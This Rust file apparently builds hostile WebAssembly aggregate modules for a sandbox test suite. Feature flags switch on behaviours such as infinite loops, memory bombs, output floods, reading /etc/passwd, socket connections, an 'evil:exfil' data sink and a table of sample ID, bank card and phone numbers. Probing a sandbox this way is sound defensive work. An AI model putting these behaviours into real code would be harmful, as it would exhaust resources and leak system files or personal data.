//! Hostile modules: each feature turns this crate into one deliberately
//! malicious or broken aggregate-mode module. The hostile suite in
//! `tests/tests/hostile` builds every variant and asserts the exact outcome.
//! `blocks_profile`, `reviewed_inventory`, `reviewed_ragged` and
//! `reviewed_trap_on_some` export the
//! other two worlds. Without a feature the module is a harmless no-op (so
//! the workspace builds).

#[cfg(not(any(
    feature = "wrong_world",
    feature = "blocks_profile",
    feature = "blocks_spin_on_some",
    feature = "reviewed_inventory",
    feature = "reviewed_ragged",
    feature = "reviewed_trap_on_some",
    feature = "reviewed_leaky"
)))]
use keyong_udf_sdk::{AggregateModule, Emitter, Rows};

/// The first district of the test manifests' key domain.
#[allow(dead_code)]
const KEY: &str = "滨江区";

#[allow(dead_code)]
struct Hostile;

#[cfg(not(any(
    feature = "wrong_world",
    feature = "blocks_profile",
    feature = "blocks_spin_on_some",
    feature = "reviewed_inventory",
    feature = "reviewed_ragged",
    feature = "reviewed_trap_on_some",
    feature = "reviewed_leaky"
)))]
impl AggregateModule for Hostile {
    fn map_unit(rows: &Rows, out: &mut Emitter) {
        imp::behave(rows, out);
    }
}

#[cfg(not(any(
    feature = "wrong_world",
    feature = "blocks_profile",
    feature = "blocks_spin_on_some",
    feature = "reviewed_inventory",
    feature = "reviewed_ragged",
    feature = "reviewed_trap_on_some",
    feature = "reviewed_leaky"
)))]
keyong_udf_sdk::aggregate_module!(Hostile);

#[cfg(any(feature = "blocks_profile", feature = "blocks_spin_on_some"))]
mod imp {
    use keyong_udf_sdk::{BlocksModule, Rows};

    /// Rows in the block and their mean kWh; with `blocks_spin_on_some` it
    /// spins forever on blocks holding a bill over 700 kWh (a run time that
    /// depends on the rows).
    struct Profile;

    impl BlocksModule for Profile {
        fn map_block(rows: &Rows) -> Vec<f64> {
            let kwh: Vec<f64> = rows.float64("kwh").map(|k| k.iter().flatten().copied().collect()).unwrap_or_default();
            if cfg!(feature = "blocks_spin_on_some") && kwh.iter().any(|&k| k > 700.0) {
                let mut x = 0u64;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            vec![rows.num_rows() as f64, kwh.iter().sum::<f64>() / kwh.len().max(1) as f64]
        }
    }

    keyong_udf_sdk::blocks_module!(Profile);
}

#[cfg(any(feature = "reviewed_inventory", feature = "reviewed_ragged", feature = "reviewed_trap_on_some"))]
mod imp {
    use keyong_udf_sdk::{ReviewedModule, Table, TableBuilder};

    /// Each table's name and row count; `reviewed_trap_on_some` traps
    /// instead when some bill is over 700 kWh (a failure that depends on the rows).
    struct Inventory;

    impl ReviewedModule for Inventory {
        fn transform(tables: &[Table]) -> TableBuilder {
            let over = |t: &Table| t.rows.float64("kwh").is_ok_and(|k| k.iter().flatten().any(|&k| k > 700.0));
            if cfg!(feature = "reviewed_trap_on_some") && tables.iter().any(over) {
                panic!("a bill over 700 kWh");
            }
            let b = TableBuilder::default()
                .utf8("table", tables.iter().map(|t| Some(t.name.clone())).collect())
                .int64("rows", tables.iter().map(|t| Some(t.rows.num_rows() as i64)).collect());
            if cfg!(feature = "reviewed_ragged") { b.boolean("ragged", vec![Some(true); tables.len() + 1]) } else { b }
        }
    }

    keyong_udf_sdk::reviewed_module!(Inventory);
}

/// Reviewed mode, `reviewed_leaky`: a table keyed by a household's 身份证,
/// mobile, bank card and credit code, under a column named `id_card` —
/// what the outbound checks must block.
#[cfg(feature = "reviewed_leaky")]
mod imp {
    use keyong_udf_sdk::{ReviewedModule, Table, TableBuilder};

    struct Leaky;

    impl ReviewedModule for Leaky {
        fn transform(_: &[Table]) -> TableBuilder {
            let keys = ["11010519491231002X", "13812345678", "4111111111111111", "91350100M000100Y43"];
            TableBuilder::default()
                .utf8("id_card", keys.iter().map(|k| Some(k.to_string())).collect())
                .int64("bills", vec![Some(1); keys.len()])
                .float64("kwh", vec![Some(100.0); keys.len()])
        }
    }

    keyong_udf_sdk::reviewed_module!(Leaky);
}

#[cfg(feature = "infinite_loop")]
mod imp {
    pub(crate) fn behave(_: &super::Rows, _: &mut super::Emitter) {
        let mut x = 0u64;
        loop {
            x = std::hint::black_box(x.wrapping_add(1));
        }
    }
}

/// `spin_on_some_units`: the electricity example (a household's kWh total to
/// its district), except that it spins forever on households that ever used
/// more than 700 kWh in a month — a run time that depends on the rows.
#[cfg(feature = "spin_on_some_units")]
mod imp {
    pub(crate) fn behave(rows: &super::Rows, out: &mut super::Emitter) {
        let (Ok(district), Ok(kwh)) = (rows.utf8("district"), rows.float64("kwh")) else { return };
        if kwh.iter().flatten().any(|&k| k > 700.0) {
            let mut x = 0u64;
            loop {
                x = std::hint::black_box(x.wrapping_add(1));
            }
        }
        if let Some(Some(d)) = district.first() {
            out.emit(&[d], kwh.iter().flatten().sum());
        }
    }
}

/// `bulk_memory_spin`: burns time in `memory.fill` (16 MiB at a time), the
/// operation fuel would under-count if it charged per instruction, not per byte.
#[cfg(feature = "bulk_memory_spin")]
mod imp {
    pub(crate) fn behave(_: &super::Rows, _: &mut super::Emitter) {
        let mut buf = vec![0u8; 16 << 20];
        let mut i = 0u8;
        loop {
            buf.fill(i);
            i = i.wrapping_add(1);
            std::hint::black_box(&buf);
        }
    }
}

#[cfg(feature = "memory_bomb")]
mod imp {
    pub(crate) fn behave(_: &super::Rows, out: &mut super::Emitter) {
        let mut hoard: Vec<Vec<u8>> = Vec::new();
        loop {
            hoard.push(std::hint::black_box(vec![7u8; 1 << 20]));
            if hoard.len() > 1 << 20 {
                out.emit(&[super::KEY], hoard.len() as f64);
                return;
            }
        }
    }
}

#[cfg(feature = "deep_recursion")]
mod imp {
    fn dive(n: u64) -> u64 {
        if n == 0 { 0 } else { std::hint::black_box(dive(std::hint::black_box(n - 1))) + 1 }
    }

    pub(crate) fn behave(_: &super::Rows, out: &mut super::Emitter) {
        out.emit(&[super::KEY], dive(u64::MAX) as f64);
    }
}

#[cfg(feature = "huge_output")]
mod imp {
    pub(crate) fn behave(_: &super::Rows, out: &mut super::Emitter) {
        // ~100 bytes per emit, ten million emits: far beyond any memory limit.
        let key = "x".repeat(100);
        for i in 0..10_000_000u32 {
            out.emit(&[&key], f64::from(i));
        }
    }
}

#[cfg(feature = "big_emit_list")]
mod imp {
    pub(crate) fn behave(_: &super::Rows, out: &mut super::Emitter) {
        for _ in 0..100_000 {
            out.emit(&[super::KEY], 1.0);
        }
    }
}

#[cfg(feature = "stdout_flood")]
mod imp {
    pub(crate) fn behave(_: &super::Rows, out: &mut super::Emitter) {
        let line = "x".repeat(1000);
        for _ in 0..1_000 {
            println!("{line}");
            eprintln!("{line}");
        }
        out.emit(&[super::KEY], 1.0);
    }
}

#[cfg(feature = "log_flood")]
mod imp {
    pub(crate) fn behave(_: &super::Rows, out: &mut super::Emitter) {
        let line = "y".repeat(1000);
        for _ in 0..10_000 {
            keyong_udf_sdk::log(&line);
        }
        out.emit(&[super::KEY], 1.0);
    }
}

#[cfg(feature = "wasi_filesystem")]
mod imp {
    pub(crate) fn behave(_: &super::Rows, out: &mut super::Emitter) {
        let n = std::fs::read_to_string("/etc/passwd").map(|s| s.len()).unwrap_or(0);
        out.emit(&[super::KEY], n as f64);
    }
}

#[cfg(feature = "wasi_sockets")]
mod imp {
    pub(crate) fn behave(_: &super::Rows, out: &mut super::Emitter) {
        let ok = std::net::TcpStream::connect("127.0.0.1:7878").is_ok();
        out.emit(&[super::KEY], f64::from(u8::from(ok)));
    }
}

#[cfg(feature = "env_probe")]
mod imp {
    pub(crate) fn behave(_: &super::Rows, out: &mut super::Emitter) {
        let n = std::env::vars().count() + std::env::args().count();
        out.emit(&[super::KEY], n as f64);
        // No preopened directories: at most wasi-libc's default "/".
        let cwd = std::env::current_dir().map(|p| p.as_os_str().len()).unwrap_or(0);
        out.emit(&["高新区"], cwd as f64);
    }
}

#[cfg(feature = "clock_probe")]
mod imp {
    pub(crate) fn behave(rows: &super::Rows, out: &mut super::Emitter) {
        let wall =
            std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_secs_f64()).unwrap_or(-1.0);
        let start = std::time::Instant::now();
        let mut x = 0u64;
        for i in 0..(1_000_000 + rows.num_rows() as u64) {
            x = std::hint::black_box(x.wrapping_add(i));
        }
        out.emit(&[super::KEY], wall);
        out.emit(&["高新区"], start.elapsed().as_nanos() as f64 + (x % 2) as f64 * 0.0);
    }
}

#[cfg(feature = "random_probe")]
mod imp {
    use std::hash::BuildHasher;

    pub(crate) fn behave(_: &super::Rows, out: &mut super::Emitter) {
        let h = std::collections::hash_map::RandomState::new().hash_one("keyong");
        out.emit(&[super::KEY], (h % 1_000_000) as f64);
    }
}

#[cfg(feature = "panic")]
mod imp {
    pub(crate) fn behave(rows: &super::Rows, _: &mut super::Emitter) {
        panic!("hostile panic after reading {} rows", rows.num_rows());
    }
}

#[cfg(feature = "state_keeper")]
mod imp {
    use std::sync::Mutex;
    use std::sync::atomic::{AtomicU64, Ordering};

    static SEEN: AtomicU64 = AtomicU64::new(0);
    /// A second way to keep state: a heap allocation reachable from a static.
    static LEAKED: Mutex<Vec<u64>> = Mutex::new(Vec::new());

    pub(crate) fn behave(rows: &super::Rows, out: &mut super::Emitter) {
        let seen = SEEN.fetch_add(1, Ordering::Relaxed) + 1;
        let mut leaked = LEAKED.lock().unwrap();
        leaked.push(rows.num_rows() as u64);
        out.emit(&[super::KEY], (seen + leaked.len() as u64) as f64);
    }
}

#[cfg(feature = "key_outside_domain")]
mod imp {
    pub(crate) fn behave(_: &super::Rows, out: &mut super::Emitter) {
        out.emit(&["不存在区"], 1.0);
        out.emit(&[super::KEY, "extra dimension"], 1.0);
        out.emit(&[], 1.0);
    }
}

#[cfg(feature = "value_out_of_bounds")]
mod imp {
    pub(crate) fn behave(_: &super::Rows, out: &mut super::Emitter) {
        out.emit(&[super::KEY], 1e12);
        out.emit(&["高新区"], -1e12);
    }
}

#[cfg(feature = "too_many_emits")]
mod imp {
    pub(crate) fn behave(_: &super::Rows, out: &mut super::Emitter) {
        for _ in 0..1000 {
            out.emit(&[super::KEY], 1.0);
        }
    }
}

#[cfg(feature = "nan_value")]
mod imp {
    pub(crate) fn behave(_: &super::Rows, out: &mut super::Emitter) {
        out.emit(&[super::KEY], f64::NAN);
        out.emit(&["高新区"], f64::INFINITY);
    }
}

#[cfg(feature = "unknown_import")]
mod imp {
    wit_bindgen::generate!({
        inline: "package evil:exfil; interface sink { send: func(data: string); } world exfil { import sink; }",
        world: "exfil",
    });

    pub(crate) fn behave(rows: &super::Rows, _: &mut super::Emitter) {
        evil::exfil::sink::send(&format!("{} rows", rows.num_rows()));
    }
}

#[cfg(feature = "wrong_world")]
mod imp {
    wit_bindgen::generate!({
        inline: "package evil:other; world other { export run: func() -> u32; }",
        world: "other",
    });

    struct Other;

    impl Guest for Other {
        fn run() -> u32 {
            42
        }
    }

    export!(Other);
}

#[cfg(not(any(
    feature = "infinite_loop",
    feature = "spin_on_some_units",
    feature = "bulk_memory_spin",
    feature = "memory_bomb",
    feature = "deep_recursion",
    feature = "huge_output",
    feature = "big_emit_list",
    feature = "stdout_flood",
    feature = "log_flood",
    feature = "wasi_filesystem",
    feature = "wasi_sockets",
    feature = "env_probe",
    feature = "clock_probe",
    feature = "random_probe",
    feature = "panic",
    feature = "state_keeper",
    feature = "key_outside_domain",
    feature = "value_out_of_bounds",
    feature = "too_many_emits",
    feature = "nan_value",
    feature = "unknown_import",
    feature = "wrong_world",
    feature = "blocks_profile",
    feature = "blocks_spin_on_some",
    feature = "reviewed_inventory",
    feature = "reviewed_ragged",
    feature = "reviewed_trap_on_some",
    feature = "reviewed_leaky",
)))]
mod imp {
    pub(crate) fn behave(_: &super::Rows, _: &mut super::Emitter) {}
}
